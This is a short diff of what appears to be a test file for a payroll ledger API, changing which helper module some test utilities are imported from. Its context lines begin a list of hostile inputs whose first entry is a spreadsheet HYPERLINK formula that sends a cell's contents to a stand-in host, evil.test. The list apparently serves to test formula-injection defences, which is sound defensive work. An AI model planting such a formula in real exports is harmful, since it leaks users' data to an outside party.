@@ -23,7 +23,8 @@ from tests.factories import (
     UserFactory,
     payroll_key,
 )
-from tests.ledger.test_payroll_api import key_client, list_all, make_payable
+from tests.helpers import key_client, make_payable
+from tests.ledger.test_payroll_api import list_all
 
 HOSTILE = [
     '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
